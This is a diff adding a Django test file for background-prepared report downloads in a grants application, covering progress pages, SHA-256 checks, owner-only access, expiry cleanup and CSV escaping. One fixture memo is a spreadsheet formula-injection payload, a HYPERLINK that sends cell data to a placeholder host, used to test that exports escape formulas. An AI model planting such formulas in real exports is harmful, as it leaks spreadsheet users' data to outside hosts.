@@ -1,0 +1,261 @@
+"""Large files prepared in the background (reports.prepared): asked for with a button,
+written by the worker (`manage.py db_worker`), followed on a page that refreshes itself,
+fetched from "My downloads" with their SHA-256, the owner's only, deleted when expired."""
+
+import csv
+import hashlib
+import io
+import uuid
+from datetime import date, datetime, time, timedelta
+from decimal import Decimal
+
+import pytest
+from django.core.files.base import ContentFile
+from django.core.files.storage import default_storage
+from django.core.management import call_command
+from django.urls import reverse
+from django.utils import timezone
+from django_tasks_db.models import DBTaskResult
+from openpyxl import load_workbook
+
+from budgets.models import LedgerEntry
+from grants.audit import AuditEvent
+from grants.models import Award
+from reports import prepared
+from reports.models import PreparedDownload
+
+HYPERLINK = '=HYPERLINK("http://x.invalid/?"&A1,"Open")'
+BRAVO_MEMO = "Bravo-only memo"
+
+
+def _entries(program):
+    """A drawdown on each task force's award; A's memo looks like a formula."""
+    Award.objects.filter(pk__in=[program.award_a.pk, program.award_b.pk]).update(status="active")
+    for award, amount, memo, officer in (
+        (program.award_a, "1234.56", HYPERLINK, program.officer_a),
+        (program.award_b, "777.77", BRAVO_MEMO, program.officer_b),
+    ):
+        LedgerEntry.objects.create(
+            award=award,
+            kind="drawdown",
+            amount=Decimal(amount),
+            effective_date=date(2025, 1, 5),
+            actor=officer,
+            idempotency_key=uuid.uuid4(),
+            memo=memo,
+        )
+
+
+def _stored_bytes(download: PreparedDownload) -> bytes:
+    with default_storage.open(download.storage_name, "rb") as handle:
+        return handle.read()
+
+
+@pytest.mark.django_db(transaction=True, serialized_rollback=True)
+def test_the_worker_prepares_the_program_workbook_for_its_owner_only(
+    client, program, memory_storage
+):
+    _entries(program)
+    client.force_login(program.officer_a)
+    response = client.post(reverse("exports:prepare_download"), {"kind": "workbook"})
+    download = PreparedDownload.objects.get()
+    assert response.status_code == 302
+    assert response["Location"] == reverse("exports:download", args=[download.pk])
+    assert (download.owner, download.status, download.label) == (
+        program.officer_a,
+        "queued",
+        "Auditor workbook: The whole program (XLSX)",
+    )
+    queued = DBTaskResult.objects.get()
+    assert queued.task_path == "reports.tasks.prepare_download"
+    assert queued.status == "READY"  # waiting for a worker
+
+    page = client.get(reverse("exports:download", args=[download.pk])).content.decode()
+    assert '<meta http-equiv="refresh" content="2">' in page
+    assert "Waiting for a worker" in page and "<script>" not in page  # no inline script
+
+    call_command("db_worker", "--batch", "--no-startup-delay", "--interval", "0", "--no-reload")
+
+    download.refresh_from_db()
+    assert download.status == "ready", download.error
+    assert DBTaskResult.objects.get().status == "SUCCESSFUL"
+    assert download.rows_done == download.rows_total > 0
+    assert download.expires_on == date.today() + timedelta(days=7)
+    stored = _stored_bytes(download)
+    assert hashlib.sha256(stored).hexdigest() == download.sha256
+    assert download.size == len(stored)
+
+    page = client.get(reverse("exports:download", args=[download.pk])).content.decode()
+    assert "http-equiv" not in page
+    assert download.sha256 in page and download.filename in page
+    listing = client.get(reverse("exports:my_downloads")).content.decode()
+    assert download.sha256 in listing
+
+    response = client.get(reverse("exports:download_file", args=[download.pk]))
+    assert response.status_code == 200
+    fetched = b"".join(response.streaming_content)
+    assert hashlib.sha256(fetched).hexdigest() == download.sha256
+    assert response["Content-Disposition"].startswith("attachment")
+
+    workbook = load_workbook(io.BytesIO(fetched))
+    memos = [row[13] for row in workbook["Ledger"].iter_rows(min_row=2, values_only=True)]
+    assert HYPERLINK in memos and BRAVO_MEMO not in memos  # task force A's data only
+    awards = [row[0] for row in workbook["Awards"].iter_rows(min_row=2, values_only=True)]
+    assert program.award_b.award_number not in awards
+    assert program.award_a.award_number in awards
+
+    actions = list(
+        AuditEvent.objects.filter(object_id=str(download.pk))
+        .order_by("pk")
+        .values_list("action", "data__file_sha256")
+    )
+    assert actions == [
+        ("reports.export.requested", None),
+        ("reports.export.prepared", download.sha256),
+        ("reports.export.downloaded", download.sha256),
+    ]
+
+    # Another person, even one who sees every task force, finds no such download.
+    for other in (program.officer_b, program.auditor):
+        client.force_login(other)
+        assert client.get(reverse("exports:download", args=[download.pk])).status_code == 404
+        assert client.get(reverse("exports:download_file", args=[download.pk])).status_code == 404
+        assert download.label not in client.get(reverse("exports:my_downloads")).content.decode()
+
+
+def test_progress_is_reported_as_rows_are_written(client, program, memory_storage, monkeypatch):
+    _entries(program)
+    monkeypatch.setattr(prepared, "PROGRESS_SECONDS", 0)
+    monkeypatch.setattr("reports.exports.xlsx.PROGRESS_EVERY", 1)
+    seen = []
+    write = prepared.Progress._write
+
+    def recorded(self, **fields):
+        seen.append(fields)
+        write(self, **fields)
+
+    monkeypatch.setattr(prepared.Progress, "_write", recorded)
+    download = prepared.request_download(
+        user=program.pm, kind="workbook", selection=prepared.selection_for(user=program.pm)
+    )
+    prepared.prepare(download.pk)
+
+    download.refresh_from_db()
+    total = download.rows_total
+    # Every row of every sheet is counted before the first is written.
+    assert seen[0] == {"rows_total": total, "rows_done": 0}
+    done = [fields["rows_done"] for fields in seen[1:]]
+    assert done == sorted(done) and done[0] == 1 and done[-1] == total
+    assert len(done) >= total  # one report a row at PROGRESS_EVERY = 1
+
+    PreparedDownload.objects.filter(pk=download.pk).update(
+        status="running", rows_done=3, rows_total=12
+    )
+    client.force_login(program.pm)
+    page = client.get(reverse("exports:download", args=[download.pk])).content.decode()
+    assert "Being prepared: <span" in page and "3 of 12 rows</span> written" in page
+    assert 'max="100" value="25"' in page
+    assert '<meta http-equiv="refresh" content="2">' in page
+
+
+def test_the_ledger_downloads_as_csv_with_formulas_escaped(program, memory_storage):
+    _entries(program)
+    download = prepared.request_download(
+        user=program.officer_a,
+        kind="ledger_csv",
+        selection=prepared.selection_for(user=program.officer_a),
+    )
+    prepared.prepare(download.pk)
+    download.refresh_from_db()
+    stored = _stored_bytes(download)
+    assert hashlib.sha256(stored).hexdigest() == download.sha256
+    assert download.filename.startswith("ledger-program-") and download.filename.endswith(".csv")
+    text = stored.decode("utf-8-sig")
+    assert text.splitlines()[1].startswith('"15PJDP-25-GK-00001-MECP",')  # every cell quoted
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[0][:4] == ["Award number", "Entry", "Date", "Kind"]
+    assert [(r[0], r[8], r[13]) for r in rows[1:]] == [
+        ("15PJDP-25-GK-00001-MECP", "1234.56", "'" + HYPERLINK)
+    ]
+
+
+def test_a_finance_officer_gets_their_own_task_force_pack_only(client, program, memory_storage):
+    client.force_login(program.officer_a)
+    response = client.post(
+        reverse("exports:prepare_download"),
+        {"kind": "pack", "task_force": program.task_force_b.code},
+    )
+    assert response.status_code == 404
+    assert not PreparedDownload.objects.exists()
+    response = client.post(
+        reverse("exports:prepare_download"),
+        {"kind": "pack", "task_force": program.task_force_a.code},
+    )
+    download = PreparedDownload.objects.get()
+    assert download.label == f"Evidence pack: Task force {program.task_force_a.name} (ZIP)"
+    prepared.prepare(download.pk)
+    download.refresh_from_db()
+    assert download.status == "ready" and download.filename.endswith(".zip")
+    assert hashlib.sha256(_stored_bytes(download)).hexdigest() == download.sha256
+
+
+def test_bad_requests_say_what_was_wrong_and_queue_nothing(client, program, memory_storage):
+    client.force_login(program.officer_a)
+    response = client.post(
+        reverse("exports:prepare_download"), {"kind": "workbook", "fy": "=1+1"}, follow=True
+    )
+    assert "Fiscal year must be a year such as 2025; got &#x27;=1+1&#x27;." in (
+        response.content.decode()
+    )
+    response = client.post(reverse("exports:prepare_download"), {"kind": "poster"}, follow=True)
+    assert "Unknown kind of download &#x27;poster&#x27;." in response.content.decode()
+    # The program summary is for the program office.
+    response = client.post(reverse("exports:prepare_download"), {"kind": "summary", "fy": "2025"})
+    assert response.status_code == 403
+    assert not PreparedDownload.objects.exists()
+    assert client.get(reverse("exports:prepare_download")).status_code == 405
+
+
+def _ready(owner, *, expires_on: date, name: str) -> PreparedDownload:
+    stored = default_storage.save(f"prepared-downloads/{owner.pk}/{name}", ContentFile(b"x"))
+    return PreparedDownload.objects.create(
+        owner=owner,
+        kind="workbook",
+        label=name,
+        status="ready",
+        filename=name,
+        storage_name=stored,
+        size=1,
+        sha256=hashlib.sha256(b"x").hexdigest(),
+        expires_on=expires_on,
+    )
+
+
+@pytest.mark.parametrize("command", ["run_daily", "send_reminders"])
+def test_the_daily_duties_delete_expired_downloads(program, memory_storage, command):
+    today = date(2025, 6, 10)
+    old = _ready(program.pm, expires_on=today - timedelta(days=1), name="old.xlsx")
+    kept = _ready(program.pm, expires_on=today, name="kept.xlsx")
+    # A request whose worker stopped before it finished, as old as the files kept.
+    stale = PreparedDownload.objects.create(owner=program.pm, kind="pack", label="P")
+    PreparedDownload.objects.filter(pk=stale.pk).update(
+        status="running",
+        requested_at=timezone.make_aware(datetime.combine(today - timedelta(days=8), time.min)),
+    )
+    out = io.StringIO()
+    call_command(command, "--today", today.isoformat(), stdout=out)
+    assert "Expired downloads deleted: 1" in out.getvalue()
+    assert not default_storage.exists(old.storage_name)
+    assert default_storage.exists(kept.storage_name)
+    assert list(PreparedDownload.objects.values_list("filename", flat=True)) == ["kept.xlsx"]
+    event = AuditEvent.objects.get(action="reports.export.expired")
+    assert event.actor is None and event.data["filename"] == "old.xlsx"
+
+
+def test_an_expired_or_unfinished_file_is_not_found(client, program, memory_storage):
+    client.force_login(program.pm)
+    waiting = PreparedDownload.objects.create(owner=program.pm, kind="workbook", label="W")
+    assert client.get(reverse("exports:download_file", args=[waiting.pk])).status_code == 404
+    gone = _ready(program.pm, expires_on=date.today(), name="gone.xlsx")
+    default_storage.delete(gone.storage_name)
+    assert client.get(reverse("exports:download_file", args=[gone.pk])).status_code == 404
